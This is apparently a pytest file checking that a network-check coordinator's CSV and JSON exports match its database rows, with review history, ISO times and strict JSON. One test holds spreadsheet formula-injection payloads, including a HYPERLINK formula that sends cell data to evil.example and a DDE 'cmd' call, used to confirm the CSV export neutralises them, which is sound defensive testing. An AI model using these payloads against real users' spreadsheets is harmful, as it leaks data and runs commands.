"""Exports round-trip: CSV and JSON of rounds, verdicts, timings and flags equal the DB rows."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import math
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from sqlalchemy import select
from web_support import web_coordinator

from netcheck.config import Profile, load_profile
from netcheck.lab.sample import fill_synthetic
from netcheck.lab.testing import RunningCoordinator
from netcheck.storage import tables
from netcheck.storage.reader import EXPORT_COLUMNS
from netcheck.storage.reviews import ReviewStore
from netcheck.storage.tables import flags as flags_table
from netcheck.web.exports import KINDS, parse_csv

TABLES = {"rounds": tables.rounds, "verdicts": tables.verdicts, "timings": tables.results}


TIMES = {"rounds": ("started_at", "finished_at"), "verdicts": ("recorded_at",),
         "flags": ("created_at", "reviewed_at")}  # fmt: skip


def db_rows(store: Any, kind: str) -> list[dict[str, Any]]:
    """Rows read straight from the table, independently of netcheck.storage.reader, with
    what the export adds: ISO 8601 UTC times (the stored number as <col>_unix) and node
    names."""
    if kind == "flags":
        query = select(flags_table).order_by(flags_table.c.flag_id.desc())
    else:
        t = TABLES[kind]
        cols = [t.c[c] for c in EXPORT_COLUMNS[kind]]
        order = [t.c.seq] if kind == "rounds" else [t.c.id]
        query = select(*cols).order_by(*order)
    with store._engine.connect() as conn:
        rows = [dict(r._mapping) for r in conn.execute(query)]
        names = dict(conn.execute(select(tables.nodes.c.node_key, tables.nodes.c.name)).all())
        if kind == "flags":  # the latest review row of each flag (open when none)
            fr = tables.flag_reviews
            history: dict[int, list[Any]] = {}
            for r in conn.execute(select(fr).order_by(fr.c.id)):
                history.setdefault(r.flag_id, []).append(r)
            for row in rows:
                rv = history[row["flag_id"]][-1] if row["flag_id"] in history else None
                row["review"] = rv.state if rv else "open"
                row["reviewed_by"] = rv.by if rv else None
                row["reviewed_at"] = rv.at if rv else None
                row["review_note"] = rv.note if rv else None
                row["reviews"] = [
                    {"state": h.state, "by": h.by, "at": datetime.fromtimestamp(h.at, UTC)
                     .isoformat(timespec="microseconds"), "at_unix": h.at, "note": h.note}
                    for h in history.get(row["flag_id"], [])
                ]  # fmt: skip
    for r in rows:
        for c in TIMES.get(kind, ()):
            r[f"{c}_unix"] = r[c]
            if r[c] is not None:
                r[c] = datetime.fromtimestamp(r[c], UTC).isoformat(timespec="microseconds")
        if "node_key" in r:
            r["node_name"] = names.get(r["node_key"]) or None
        if "node_keys" in r:
            r["node_names"] = [names.get(k) or None for k in r["node_keys"]]
    return rows


@pytest.fixture
def profile() -> Profile:
    return load_profile("cpu-tiny")


@contextlib.asynccontextmanager
async def export_client(
    tmp_path: Path, profile: Profile, n_rounds: int, seed: int
) -> AsyncIterator[tuple[RunningCoordinator, aiohttp.ClientSession, str]]:
    """A coordinator holding ``fill_synthetic``'s sample (``n_rounds`` rounds, 2 honest
    nodes, ``seed``), an HTTP client carrying its admin token, and the exports' base URL."""
    async with web_coordinator(tmp_path, [profile]) as rc:
        fill_synthetic(rc.coord.store, n_rounds=n_rounds, n_honest=2, seed=seed)
        headers = {"Authorization": f"Bearer {rc.coord.config.admin_token}"}
        async with aiohttp.ClientSession(headers=headers) as http:
            yield rc, http, f"http://127.0.0.1:{rc.port}/export"


async def json_and_csv(http: aiohttp.ClientSession, url: str) -> tuple[dict[str, Any], str]:
    """The export at ``url`` (no suffix) as JSON and as CSV text, each answered 200,
    the CSV as ``text/csv``."""
    async with http.get(f"{url}.json") as resp:
        assert resp.status == 200
        doc = await resp.json()
    async with http.get(f"{url}.csv") as resp:
        assert resp.status == 200
        assert resp.content_type == "text/csv"
        text = await resp.text()
    return doc, text


async def test_csv_and_json_exports_round_trip(tmp_path: Path, profile: Profile) -> None:
    """Every export, parsed back (CSV with the published types), equals the database rows."""
    async with export_client(tmp_path, profile, n_rounds=6, seed=3) as (rc, http, base):
        reviews = ReviewStore(rc.coord.store)
        reviews.review(1, "acknowledged", "bob")
        reviews.review(1, "false-positive", "alice", 'same card, "two" sockets, 1 GPU')
        for kind in KINDS:
            expected = db_rows(rc.coord.store, kind)
            assert expected, kind
            doc, text = await json_and_csv(http, f"{base}/{kind}")
            assert doc["rows"] == expected, kind
            columns, rows = parse_csv(text, doc["types"])
            assert columns == doc["columns"]
            assert rows == expected, kind


async def test_round_filter_and_unknown_export(tmp_path: Path, profile: Profile) -> None:
    """?round_id= limits an export to one round; an unknown export is a 404."""
    async with export_client(tmp_path, profile, n_rounds=3, seed=4) as (_rc, http, base):
        async with http.get(f"{base}/verdicts.json?round_id=r0001-synthetic") as resp:
            rows = (await resp.json())["rows"]
        assert rows and {r["round_id"] for r in rows} == {"r0001-synthetic"}
        async with http.get(f"{base}/secrets.csv") as resp:
            assert resp.status == 404


async def test_exports_show_iso_times_and_node_names(tmp_path: Path, profile: Profile) -> None:
    """recorded_at is ISO 8601 UTC (the number is recorded_at_unix); node_name follows
    node_key."""
    async with export_client(tmp_path, profile, n_rounds=2, seed=5) as (_rc, http, base):
        doc, text = await json_and_csv(http, f"{base}/verdicts")
    header = text.splitlines()[0].split(",")
    assert doc["types"]["recorded_at"] == "time" and doc["types"]["recorded_at_unix"] == "float"
    row = doc["rows"][0]
    assert row["recorded_at"].endswith("+00:00") and "T" in row["recorded_at"]
    parsed = datetime.fromisoformat(row["recorded_at"]).timestamp()
    assert abs(parsed - row["recorded_at_unix"]) < 1e-5
    assert header.index("node_name") == header.index("node_key") + 1
    assert all(r["node_name"] for r in doc["rows"])  # the sample nodes are all named


async def test_flags_export_carries_the_review_state(tmp_path: Path, profile: Profile) -> None:
    """An analyst's review (state, who, when, note) is in both flag exports: the latest
    review of a flag, ``open`` with empty cells for a flag never reviewed."""
    async with export_client(tmp_path, profile, n_rounds=6, seed=3) as (rc, http, base):
        reviews = ReviewStore(rc.coord.store)
        reviews.review(1, "acknowledged", "bob")
        row = reviews.review(1, "false-positive", "alice", "one card, two sockets")
        doc, text = await json_and_csv(http, f"{base}/flags")
    cols = doc["columns"]
    assert cols[-6:-1] == ["review", "reviewed_by", "reviewed_at", "reviewed_at_unix",
                           "review_note"]  # fmt: skip
    assert doc["types"]["reviewed_at"] == "time"
    by_id = {r["flag_id"]: r for r in doc["rows"]}
    assert len(by_id) > 1
    one = by_id[1]
    assert (one["review"], one["reviewed_by"], one["review_note"]) == (
        "false-positive", "alice", "one card, two sockets")  # fmt: skip
    assert one["reviewed_at_unix"] == row["at"] and one["reviewed_at"].endswith("+00:00")
    other = next(r for i, r in by_id.items() if i != 1)
    assert other["review"] == "open" and other["reviewed_by"] is None
    _, csv_rows = parse_csv(text, doc["types"])
    csv_one = next(r for r in csv_rows if r["flag_id"] == 1)
    assert csv_one["review"] == "false-positive" and csv_one["reviewed_by"] == "alice"


async def test_flags_export_carries_the_whole_review_history(
    tmp_path: Path, profile: Profile
) -> None:
    """The flags export held only the latest review: now its last column, ``reviews``,
    lists every review in the order made (who, when, state, note), in the JSON and the
    CSV form, ``[]`` for a flag never reviewed; the latest-review columns stay."""
    async with export_client(tmp_path, profile, n_rounds=6, seed=3) as (rc, http, base):
        reviews = ReviewStore(rc.coord.store)
        made = [
            reviews.review(1, "acknowledged", "bob", "looking"),
            reviews.review(1, "open", "bob", "not mine"),
            reviews.review(1, "resolved", "alice", 'one card, "two" sockets'),
        ]
        doc, text = await json_and_csv(http, f"{base}/flags")
    assert doc["columns"][-1] == "reviews" and doc["types"]["reviews"] == "json"
    by_id = {r["flag_id"]: r for r in doc["rows"]}
    history = by_id[1]["reviews"]
    assert [(h["state"], h["by"], h["note"], h["at_unix"]) for h in history] == [
        (m["state"], m["by"], m["note"], m["at"]) for m in made
    ]
    assert all(h["at"].endswith("+00:00") for h in history)
    assert by_id[1]["review"] == "resolved" and by_id[1]["reviewed_by"] == "alice"
    assert all(r["reviews"] == [] for i, r in by_id.items() if i != 1)
    _, csv_rows = parse_csv(text, doc["types"])
    assert next(r for r in csv_rows if r["flag_id"] == 1)["reviews"] == history


#: Cells a spreadsheet would run: a node chooses its error text (timings ``error``).
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "\tx", "'=already quoted")  # fmt: skip


async def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(
    tmp_path: Path, profile: Profile
) -> None:
    """Text cells starting with = + - @ (or a tab, CR, LF, ') get a leading ' in the CSV
    form, so a spreadsheet shows them as text; parse_csv takes it off again, and the JSON
    form keeps the stored text. Without the quote the node's error text was a live
    formula in timings.csv."""
    async with export_client(tmp_path, profile, n_rounds=2, seed=6) as (rc, http, base):
        with rc.coord.store._engine.begin() as conn:
            ids = [r.id for r in conn.execute(select(tables.results.c.id))]
            for i, formula in zip(ids, FORMULAS, strict=False):
                conn.execute(
                    tables.results.update().where(tables.results.c.id == i).values(error=formula)
                )
        reviews = ReviewStore(rc.coord.store)
        reviews.review(1, "acknowledged", "@bob", "=1+1")
        for kind in ("timings", "flags"):
            expected = db_rows(rc.coord.store, kind)
            doc, text = await json_and_csv(http, f"{base}/{kind}")
            assert doc["rows"] == expected, kind
            cells = [c for line in csv.reader(io.StringIO(text)) for c in line]
            assert not [c for c in cells if c and c[0] in "=+@\t"], kind
            assert not [c for c in cells if c[:1] == "-" and not c[1:2].isdigit()], kind
            _, rows = parse_csv(text, doc["types"])
            assert rows == expected, kind
        assert len(ids) >= len(FORMULAS)
        assert "'@bob" in text and "'=1+1" in text  # the flags export
        _, timings = await json_and_csv(http, f"{base}/timings")
        assert '"\'=HYPERLINK(""http://evil.example' in timings
        assert "''=already quoted" in timings and "'-2+3" in timings


async def test_json_exports_are_strict_json_with_non_finite_floats(
    tmp_path: Path, profile: Profile
) -> None:
    """An inf in a float column or inside a JSON column was written as ``Infinity``,
    which JSON.parse and jq refuse: now ``null`` in the JSON form (as in the admin API);
    the CSV form keeps ``Infinity`` and reads back as inf."""
    async with export_client(tmp_path, profile, n_rounds=2, seed=7) as (rc, http, base):
        with rc.coord.store._engine.begin() as conn:
            conn.execute(tables.verdicts.update().values(elapsed_s=float("inf")))
            conn.execute(tables.rounds.update().values(summary={"total_s": float("-inf")}))

        def refuse(constant: str) -> Any:
            raise ValueError(f"not strict JSON: {constant}")

        cases = (("verdicts", "elapsed_s", None), ("rounds", "summary", "total_s"))
        for kind, column, inside in cases:
            doc, text = await json_and_csv(http, f"{base}/{kind}")
            async with http.get(f"{base}/{kind}.json") as resp:
                json.loads(await resp.text(), parse_constant=refuse)
            for row in doc["rows"]:
                assert (row[column] if inside is None else row[column][inside]) is None
            _, rows = parse_csv(text, doc["types"])
            for row in rows:
                value = row[column] if inside is None else row[column][inside]
                assert value is not None and math.isinf(value), kind
